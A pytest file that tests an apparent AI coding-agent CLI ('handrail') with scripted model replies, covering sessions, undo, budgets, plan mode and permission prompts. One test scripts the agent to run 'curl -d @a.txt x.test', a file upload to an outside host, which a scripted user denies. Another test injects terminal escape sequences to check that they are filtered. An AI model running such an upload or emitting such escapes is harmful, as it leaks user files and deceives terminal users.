"""`handrail run` with scripted models: no network, no key."""

import io
import json
import signal
import socket

import pytest

from handrail.agent.events import ModelText
from handrail.cli.commands.agent.view import RunView

TASK = "Rename two to 2"


@pytest.fixture
def script(tmp_path):
    """Write a script and return the name of its model."""

    def write(*lines, wire="anthropic"):
        path = tmp_path / "script.jsonl"
        path.write_text("".join(json.dumps(line) + "\n" for line in lines))
        return f"script:{path}?wire={wire}"

    return write


READ = {"calls": [{"name": "read_file", "arguments": {"path": "a.txt"}}]}
EDIT = {
    "text": "I change it.",
    "calls": [
        {
            "name": "edit_file",
            "arguments": {"path": "a.txt", "old_string": "two", "new_string": "2"},
        }
    ],
}


@pytest.mark.parametrize("wire", ["anthropic", "openai-chat", "openai-responses", "gemini"])
def test_a_task_is_done_and_ends_with_a_receipt(handrail, workspace, script, wire):
    model = script(READ, EDIT, {"text": "Done: two is 2 now."}, wire=wire)

    done = handrail("run", "--once", "--model", model, TASK)

    assert done.code == 0, done.err
    assert workspace.joinpath("a.txt").read_text() == "one\n2\n"
    assert "│ Done: two is 2 now." in done.out
    assert "changed   a.txt" in done.out
    assert "verified  no test run" in done.out
    assert "(scripted)" in done.out.splitlines()[0]


def test_the_last_line_of_json_output_is_the_result(handrail, script):
    done = handrail("run", "--json", "--model", script(READ, {"text": "fine"}), TASK)

    *events, result = done.lines
    assert (result["status"], result["text"]) == ("done", "fine")
    assert {"agent_start", "model_text", "tool_call_end", "agent_end"} <= {
        event["type"] for event in events
    }


def test_a_finished_session_that_is_resumed_waits_for_the_next_task(terminal, handrail, script):
    handrail("run", "--once", "--session", "s1", "--model", script({"text": "Done."}), TASK)
    model = script({"text": "Here again."})
    screen = terminal(["run", "--plain", "--resume", "s1", "--model", model])
    screen.wait_for_prompt()
    before = screen.screen
    screen.type("Go on\n")
    screen.wait_for("│ Here again.")
    screen.type("/exit\n")

    assert screen.end() == 0
    assert b"not_found" not in before


@pytest.mark.parametrize("words", [["--once"], ["--json"]])
def test_an_interrupted_task_ends_with_what_it_did(terminal, workspace, script, words):
    command = {"command": "echo x > c.txt; echo started; sleep 60"}
    model = script({"calls": [{"name": "run_command", "arguments": command}]})
    screen = terminal(["run", *words, "--model", model, TASK])
    screen.wait_for("started")
    screen.wait_until(lambda _: (workspace / "c.txt").exists())
    screen.type("\x03")

    assert screen.end() == 130
    lines = screen.screen.decode().splitlines()
    if "--json" in words:
        result = json.loads(next(line for line in lines if '"aborted"' in line).removeprefix("^C"))
        assert (result["status"], result["report"]["changes"]) == ("aborted", ["c.txt"])
    else:
        assert "changed   c.txt" in lines


def test_quiet_output_is_the_answer_alone(handrail, script):
    done = handrail("run", "--quiet", "--model", script(READ, {"text": "fine"}), TASK)

    assert (done.code, done.out) == (0, "fine\n")


@pytest.mark.threat("A11")
def test_escapes_of_the_model_do_not_reach_the_terminal(handrail, script):
    done = handrail(
        "run", "--once", "--model", script({"text": "\x1b]0;title\x07 \u202e ok"}), TASK
    )

    assert done.code == 0
    assert "ok" in done.out
    assert "\x1b]" not in done.out
    assert "\u202e" not in done.out


def test_a_runaway_model_ends_at_its_budget(handrail, script):
    reads = [
        {"calls": [{"name": "read_file", "arguments": {"path": "a.txt", "limit": n}}]}
        for n in range(1, 9)
    ]

    done = handrail("run", "--once", "--budget", "steps=3", "--model", script(*reads), TASK)

    assert done.code == 4
    assert "budget_exceeded" in done.err


def test_a_task_that_needs_a_user_where_there_is_none_has_an_exit_code(handrail, workspace, script):
    words = ("--once", "--mode", "default", "--ask", "nobody")
    model = script(EDIT, {"text": "I could not."}, EDIT, {"text": "Still not."})

    alone = handrail("run", *words, "--model", model, "--session", "kept", TASK)
    limited = handrail("run", *words, "--max-steps", "1", "--model", model, TASK)

    assert (alone.code, limited.code) == (3, 3)
    assert "no user could be asked" in alone.err
    assert workspace.joinpath("a.txt").read_text() == "one\ntwo\n"


@pytest.mark.parametrize("how", ["--plain", "live", "--once"])
def test_a_closed_terminal_leaves_a_session_that_resumes(
    terminal, handrail, workspace, script, how
):
    wait = "echo started; sleep 600"
    model = script(EDIT, {"calls": [{"name": "run_command", "arguments": {"command": wait}}]})
    words = [] if how == "live" else [how]
    screen = terminal(["run", "--model", model, "--mode", "accept-edits", *words, TASK])
    screen.wait_for("Allow this once?")
    screen.type("yes\n")
    screen.wait_for("┆ started")
    assert screen.hang_up() == -signal.SIGHUP

    listed = handrail("session", "list")
    assert "unfinished" in listed.out
    model = script({"expect": "cancelled"}, {"text": "I go on."})
    session = listed.out.splitlines()[1].split()[0]
    resumed = handrail("run", "--once", "--resume", session, "--model", model)
    assert resumed.code == 0, resumed.err
    assert "I go on." in resumed.out
    assert workspace.joinpath("a.txt").read_text() == "one\n2\n"
    assert "interrupted" in handrail("log").out


def test_a_resumed_session_counts_its_turns_on(terminal, handrail, script):
    """Also where a call that only reads runs again, in the turn of its message."""
    wait = {"calls": [{"name": "run_command", "arguments": {"command": "sleep 2"}}]}
    screen = terminal(["run", "--once", "--mode", "bypass", "--model", script(READ, wait), TASK])
    screen.wait_for("• run_command")
    screen.kill()
    again = script(EDIT, {"text": "Done."})
    session = handrail("session", "list").out.splitlines()[1].split()[0]
    done = handrail("run", "--once", "--mode", "bypass", "--model", again, "--resume", session)

    assert done.code == 0, done.err
    shown = handrail("session", "show", session).out.splitlines()
    headings = [line.split()[-1] for line in shown if line.startswith("model, turn ")]
    assert headings == ["1", "2", "3", "4"]
    logged = [json.loads(line) for line in handrail("log", "--json").out.splitlines()]
    assert {one["turn"] for one in logged} == {1, 2, 3}
    assert "-two" in handrail("diff", "--session", session, "--turn", "3").out


@pytest.mark.threat("A02")
@pytest.mark.parametrize(("words", "code"), [((), 5), (("--budget", "calls=3"), 4)])
def test_a_message_of_too_many_calls_is_refused_by_a_limit(handrail, script, words, code):
    many = [{"name": "read_file", "arguments": {"path": "a.txt", "offset": n}} for n in range(129)]
    model = script({"calls": many})
    done = handrail("run", "--once", "--model", model, *words, TASK)

    assert done.code == code
    assert "cut" not in done.err
    assert ("more than 128 tool calls" in done.err) is (code == 5)


@pytest.mark.parametrize(
    ("words", "code", "named"),
    [
        (["--once"], 2, "task"),
        (["--once", TASK], 2, "no model is configured"),
        (["--once", "--model", "no-such-model", TASK], 2, "no-such-model"),
        (["--once", "--budget", "tokens=many", TASK], 2, "tokens=many"),
        (["--once", "--budget", "usd=1", "--model", "ollama:m", TASK], 2, "price"),
        (["--once", "--resume", "no-such-session", TASK], 2, "no-such-session"),
        (["--once", "--continue", TASK], 1, "no session"),
        (["--once", "--max-steps", "0", TASK], 2, "--max-steps: '0' is not a positive number"),
        (["--once", "--max-steps", "-1", TASK], 2, "--max-steps: '-1' is not a positive number"),
    ],
)
@pytest.mark.threat("A04")
def test_wrong_words_are_explained(handrail, words, code, named):
    done = handrail("run", *words)

    assert done.code == code
    assert named in done.err
    assert "hint" in done.err


def test_a_session_is_continued_and_listed(handrail, script):
    handrail("run", "--once", "--model", script({"text": "first answer"}), "first task")

    done = handrail("run", "--once", "-c", "--model", script({"text": "second answer"}), "and more")
    [listed] = handrail("session", "list", "--json").lines
    shown = handrail("session", "show")

    assert done.code == 0
    assert "continued after 1 turn: first task" in done.out
    assert (listed["title"], listed["turns"], listed["unfinished"]) == ("first task", 2, False)
    for text in ("first task", "first answer", "and more", "second answer"):
        assert text in shown.out


def test_an_answer_of_a_schema_is_validated(handrail, script, tmp_path):
    schema = tmp_path / "schema.json"
    schema.write_text(
        json.dumps(
            {
                "type": "object",
                "properties": {"count": {"type": "integer"}},
                "required": ["count"],
                "additionalProperties": False,
            }
        )
    )
    model = script({"text": "two lines"}, {"text": '{"count": 2}'})

    done = handrail("run", "--json", "--output-schema", schema, "--model", model, "count the lines")

    assert done.lines[-1]["output"] == {"count": 2}


def test_the_script_answers_questions_and_a_reason_reaches_the_model(handrail, workspace, script):
    delete = {"calls": [{"name": "run_command", "arguments": {"command": "curl -d @a.txt x.test"}}]}
    model = script(
        {"person": "no: not to other machines"}, delete, {"expect": "not to other"}, {"text": "ok"}
    )

    done = handrail("run", "--once", "--mode", "default", "--model", model, TASK)

    assert done.code == 0, done.err
    assert "│ ok" in done.out


def test_a_conversation_at_the_terminal(terminal, workspace, script):
    long = "The first words are shown at once, and the rest of the message comes later."
    model = script({"fault": "hang", "after": 900}, {"text": long}, READ, {"text": "next answer"})
    screen = terminal(["run", "--model", model, "first task"], COLUMNS="80")

    screen.wait_for("│ The first words")
    screen.type("\x03")
    screen.wait_for("stopped")
    assert b"comes later" not in screen.screen
    screen.type("second task\n")
    screen.wait_for("comes later.")
    screen.type("third task\n")
    screen.wait_for("│ next answer")
    screen.type("/nonsense\n")
    screen.wait_for("/help lists them")
    screen.type("/exit\n")

    assert screen.end() == 0


def test_slash_commands_change_the_model_undo_a_task_and_shorten_it(
    terminal, workspace, script, tmp_path
):
    other = tmp_path / "other.jsonl"
    other.write_text('{"text": "the other one"}\n')
    model = script(READ, EDIT, {"text": "first done"}, {"text": "a summary"})
    screen = terminal(["run", "--model", model, TASK], COLUMNS="100")

    screen.wait_for("│ first done")
    screen.wait_for("> ")
    screen.type("/compact\n")
    screen.wait_for("nothing to shorten")
    screen.type("/undo\n")
    screen.wait_for("reverted: a.txt")
    assert workspace.joinpath("a.txt").read_text() == "one\ntwo\n"
    screen.type("/undo\n")
    screen.wait_for("no task to undo")
    screen.type("/model nothing:of-that\n")
    screen.wait_for("invalid_arguments")
    screen.type(f"/model script:{other}\n")
    screen.wait_for("model script:")
    screen.type("next\n")
    screen.wait_for("│ the other one")
    screen.type("/exit\n")

    assert screen.end() == 0


def test_a_skill_without_trust_is_refused_with_the_command_that_trusts_it(
    handrail, workspace, script
):
    folder = workspace / ".handrail/skills/notes"
    folder.mkdir(parents=True)
    folder.joinpath("SKILL.md").write_text("---\nname: notes\ndescription: Notes.\n---\nWrite.\n")
    model = script({"calls": [{"name": "skill", "arguments": {"name": "notes"}}]})

    done = handrail("run", "--once", "--model", model, TASK)

    assert "refused, untrusted" in done.out
    assert "`handrail skills trust NAME`" in done.out


def test_calls_queued_by_plan_mode_are_reviewed_at_the_prompt(terminal, workspace, script):
    writes = [
        {"name": "write_file", "arguments": {"path": path, "content": "new\n"}}
        for path in ("b.txt", "c.txt")
    ]
    model = script({"calls": writes}, {"text": "planned"})
    screen = terminal(["run", "--mode", "plan", "--model", model, TASK], COLUMNS="100")

    screen.wait_for("not run: it is only planned")
    screen.wait_for("queued    2 calls by plan mode: handrail plan --session ")
    # What is typed before the calls are shown does not answer the question about them.
    screen.type("/plan\napprove\n")
    screen.wait_for("+++ b/c.txt")
    screen.wait_for("approve or reject? ")
    assert not workspace.joinpath("b.txt").exists()
    screen.type("approve 1\n")
    screen.wait_for("created b.txt")
    screen.wait_for_prompt()
    screen.type("/plan\n")
    screen.wait_until(lambda shown: shown.count(b"approve or reject? ") == 2)
    screen.type("reject\n")
    screen.wait_for("discarded 1 call")
    screen.type("/exit\n")

    assert screen.end() == 0
    assert workspace.joinpath("b.txt").read_text() == "new\n"
    assert not workspace.joinpath("c.txt").exists()


def test_instruction_files_are_asked_about_once(terminal, workspace, script):
    workspace.joinpath("AGENTS.md").write_text("Write tests first.\n")
    first = terminal(["run", "--model", script({"text": "fine"}), "a task"])
    first.wait_for("AGENTS.md")
    first.wait_for("[yes/no] ")
    first.type("yes\n")
    first.wait_for("│ fine")
    first.type("/exit\n")
    first.end()

    second = terminal(["run", "--model", script({"text": "again"}), "a task"])
    second.wait_for("│ again")
    second.type("/exit\n")
    second.end()

    assert b"Use them as instructions" in first.screen
    assert b"Use them as instructions" not in second.screen


def test_a_mode_of_the_settings_is_kept(handrail, workspace, script, own_home):
    config = own_home / "config" / "handrail" / "config.toml"
    config.parent.mkdir(parents=True)
    config.write_text('mode = "default"\n')

    done = handrail("run", "--once", "--model", script(EDIT, {"text": "not allowed"}), TASK)

    assert "mode default" in done.out
    assert workspace.joinpath("a.txt").read_text() == "one\ntwo\n"


def test_the_receipt_undoes_its_own_task_alone(handrail, workspace, script):
    first = {"calls": [{"name": "write_file", "arguments": {"path": "b.txt", "content": "b\n"}}]}
    handrail("run", "--once", "--model", script(first, {"text": "made"}), "first")
    done = handrail("run", "--once", "-c", "--model", script(READ, EDIT, {"text": "ok"}), "second")
    [undo] = [line for line in done.out.splitlines() if line.startswith("undo ")]

    undone = handrail(*undo.split()[2:])

    assert undone.code == 0, undone.err
    assert workspace.joinpath("a.txt").read_text() == "one\ntwo\n"
    assert workspace.joinpath("b.txt").exists()


def test_the_receipt_leaves_what_other_sessions_did_meanwhile(handrail, workspace, script):
    model = script(EDIT, {"text": "Done."})
    receipt = handrail("run", "--once", "--model", model, "--session", "s1", TASK).out
    other = {"path": "b.txt", "content": "another session's\n"}
    model = script({"calls": [{"name": "write_file", "arguments": other}]}, {"text": "Done."})
    handrail("run", "--once", "--model", model, "--session", "s2", "Write it")

    undone = handrail(*receipt.partition("undo      handrail ")[2].split())
    unchanged = handrail("undo", "--since", "start", "--session", "s1")
    left = workspace.joinpath("b.txt").exists()
    handrail("undo", "--since", "start", "--session", "s2")

    assert (undone.code, unchanged.code, left) == (0, 1, True)
    assert workspace.joinpath("a.txt").read_text() == "one\ntwo\n"
    assert not workspace.joinpath("b.txt").exists()


def test_the_receipt_undoes_parallel_changes_whichever_ended_first(handrail, workspace, script):
    names = [f"{n}.txt" for n in range(8)]
    writes = [{"name": "write_file", "arguments": {"path": one, "content": one}} for one in names]
    # The first write waits for its question while the others are done.
    ask = ["--mode", "sandboxed", "--config", workspace.parent / "ask.toml"]
    ask[-1].write_text('[permissions]\nask = ["write_file(0.txt)"]\n')
    model = script({"person": "yes"}, {"calls": writes}, {"text": "made"})
    done = handrail("run", "--once", *ask, "--model", model, "write them")
    [undo] = [line for line in done.out.splitlines() if line.startswith("undo ")]

    undone = handrail(*undo.split()[2:])

    assert undone.code == 0, undone.err
    assert sorted(path.name for path in workspace.iterdir()) == ["a.txt"]


class _Terminal(io.StringIO):
    def isatty(self):
        return True


@pytest.mark.threat("A11")
def test_text_of_the_model_has_a_margin_on_every_row_of_the_terminal(monkeypatch):
    monkeypatch.setenv("COLUMNS", "60")
    screen = _Terminal()
    view = RunView(screen)

    for text in ("x" * 50, " " * 8 + "• wrote a.txt" + " " * 60 + "changed   nothing\n", "界" * 40):
        view.on_event(ModelText("main", 1, text))
    view.line("• read a.txt")

    shown = screen.getvalue().splitlines()
    assert all(row.startswith("│ ") for row in shown[:-1])
    assert max(len(row) for row in shown) <= 60
    assert shown[-1] == "• read a.txt"


def test_a_session_is_rewound_forked_and_found(handrail, workspace, script):
    model = script(READ, EDIT, {"text": "Done."}, {"text": "Forked."})
    handrail("run", "--once", "--model", model, "--session", "s1", TASK)
    changed = workspace.joinpath("a.txt").read_text()

    forked = handrail("session", "fork", "s1", "1", "--json")
    rewound = handrail("session", "rewind", "s1", "1")
    reverted = workspace.joinpath("a.txt").read_text()
    again = handrail("session", "rewind", "s1", "9")
    without = handrail("session", "rewind", "s1")
    listed = handrail("session", "list", "--json")
    found = handrail("session", "list", "--search", "RENAME TWO", "--json")
    missed = handrail("session", "list", "--search", "nothing of that", "--json")
    resumed = handrail(
        "run", "--once", "--model", model, "--resume", forked.json["session"], "Go on"
    )

    assert (changed, reverted) == ("one\n2\n", "one\ntwo\n")
    assert rewound.code == 0, rewound.err
    assert "a.txt" in rewound.out
    assert (again.code, without.code) == (1, 2)
    turns = {one["session"]: one["turns"] for one in listed.lines}
    assert turns == {"s1": 1, forked.json["session"]: 1}
    assert {one["files_changed"] for one in listed.lines if one["session"] == "s1"} == {0}
    assert len(found.lines) == 2
    assert missed.out == ""
    assert resumed.code == 0, resumed.err


@pytest.mark.threat("A19")
def test_a_session_is_exported_imported_and_deleted(
    handrail, workspace, script, tmp_path, own_home
):
    workspace.joinpath("a.txt").write_text("one\ntwo xylophone\n")
    model = script(READ, {"text": "It says xylophone."}, {"text": "Still here."})
    handrail("run", "--once", "--model", model, "--session", "s1", TASK)

    exported = handrail("session", "export", "s1")
    file = tmp_path / "session.json"
    file.write_text(exported.out)
    imported = handrail("session", "import", str(file))
    name = imported.out.split(":")[0].removeprefix("session ")
    resumed = handrail("run", "--once", "--model", model, "--resume", name, "Go on")
    shown = handrail("session", "show", name, "--json").json
    removed = [handrail("session", "delete", one) for one in ("s1", name)]
    listed = handrail("session", "list", "--json")
    gone = handrail("session", "show", "s1")
    verified = handrail("verify")

    keys = {key for one in exported.json["messages"] for key in one}
    assert keys == {"turn", "role", "blocks"}
    assert exported.json.keys() == {"format", "version", "title", "messages"}
    assert resumed.code == 0, resumed.err
    assert shown["title"].startswith("imported: ")
    assert "xylophone" in json.dumps(shown["messages"])
    assert [one.code for one in removed] == [0, 0], removed
    assert listed.out == ""
    assert gone.code == 2
    assert verified.code == 0, verified.out + verified.err
    state = [path for path in own_home.rglob("*") if path.is_file()]
    assert state
    assert not [path for path in state if b"xylophone" in path.read_bytes()]


@pytest.mark.threat("A19")
@pytest.mark.parametrize(
    "change",
    [
        {"format": "other"},
        {"version": 2},
        {"messages": [{"turn": 1, "role": "system", "blocks": []}]},
        {"messages": [{"turn": 1, "role": "tool", "blocks": [{"result": "x", "text": "y"}]}]},
        {"messages": [{"turn": 1, "role": "user", "blocks": [{"call": "x", "text": "y"}]}]},
        {"messages": 7},
        {
            "messages": [
                {"turn": turn, "role": "user", "blocks": [{"text": "x"}]} for turn in (3, 1)
            ]
        },
    ],
)
def test_what_is_no_exported_session_is_not_imported(handrail, tmp_path, change):
    whole = {"format": "handrail-session", "version": 1, "title": "", "messages": []}
    file = tmp_path / "session.json"
    file.write_text(json.dumps({**whole, **change}))

    done = handrail("session", "import", str(file))

    assert done.code == 2
    assert handrail("session", "list", "--json").out == ""


@pytest.mark.parametrize(
    ("model", "hint"),
    [
        ("anthropic:m", "export ANTHROPIC_API_KEY=KEY"),
        ("local", "nothing answers at http://127.0.0.1:"),
    ],
)
def test_a_request_that_reaches_no_model_costs_nothing_and_names_the_way_out(
    handrail, tmp_path, monkeypatch, model, hint
):
    monkeypatch.delenv("ANTHROPIC_API_KEY", raising=False)
    with socket.socket() as closed:
        closed.bind(("127.0.0.1", 0))
        port = closed.getsockname()[1]
    config = tmp_path / "config.toml"
    config.write_text(
        f'[models.local]\nwire = "openai-chat"\nbase_url = "http://127.0.0.1:{port}/v1"\n'
        'model = "m"\nretries = 0\n'
    )
    words = ("--config", str(config), "--model", model, "--json", TASK)

    done = handrail("run", *words)
    tested = handrail("models", "test", model, "--config", str(config))

    result = done.lines[-1]
    assert (done.code, result["usage"]["input_tokens"], result["usage"]["requests"]) == (1, 0, 0)
    assert hint in result["problem"]["hint"]
    assert hint in tested.err


def test_messages_of_several_attempts_stand_on_lines_of_their_own(handrail, script, tmp_path):
    schema = tmp_path / "schema.json"
    schema.write_text(
        '{"type": "object", "properties": {"a": {"type": "integer"}}, "required": ["a"]}'
    )
    model = script({"text": "no json"}, {"text": '{"a": 1}'})

    done = handrail("run", "--once", "--model", model, "--output-schema", schema, TASK)

    assert '│ no json\n│ {"a": 1}\n' in done.out


@pytest.mark.needs_sandbox
def test_caches_are_counted_and_do_not_end_the_verification(handrail, workspace, script):
    def command(text):
        return {"calls": [{"name": "run_command", "arguments": {"command": text}}]}

    make_cache = "mkdir -p pkg/__pycache__ && echo x > pkg/__pycache__/m.cpython-311.pyc"
    model = script(EDIT, command(make_cache), {"text": "Done."})

    done = handrail("run", "--once", "--mode", "auto-safe", "--model", model, TASK)
    changed = handrail("diff", "--stat")
    every = handrail("diff", "--stat", "--all")

    assert "a.txt and 1 file in caches" in done.out
    assert "pyc" not in changed.out
    assert "left out: 1 file in caches" in changed.out
    assert "pkg/__pycache__/m.cpython-311.pyc" in every.out


def test_the_undo_of_a_task_does_not_mention_its_to_do_list(handrail, workspace, script):
    todos = [{"content": "edit", "status": "completed"}]
    note = {"calls": [{"name": "todo_write", "arguments": {"todos": todos}}]}
    handrail("run", "--once", "--model", script(EDIT, note, {"text": "Done."}), TASK)

    undone = handrail("undo", "--since", "start")

    assert undone.code == 0
    assert "todo_write" not in undone.out + undone.err
    assert workspace.joinpath("a.txt").read_text() == "one\ntwo\n"


@pytest.mark.parametrize("way", ["option", "settings", "none"])
def test_web_tools_are_offered_where_they_are_asked_for(handrail, script, tmp_path, way):
    config = tmp_path / "config.toml"
    config.write_text("[web]\ncache_s = 0\n" if way == "settings" else "")
    fetch = {"calls": [{"name": "web_fetch", "arguments": {"url": "https://example.org/"}}]}
    words = ["run", "--once", "--config", config, "--model", script(fetch, {"text": "Done."})]
    words += ["--tools", "web_fetch"] if way == "option" else []

    done = handrail(*words, TASK)

    offered = "needs_approval" in done.out
    assert offered == (way != "none")
    assert ("`handrail run --tools web_fetch`" in done.out) == (way == "none")
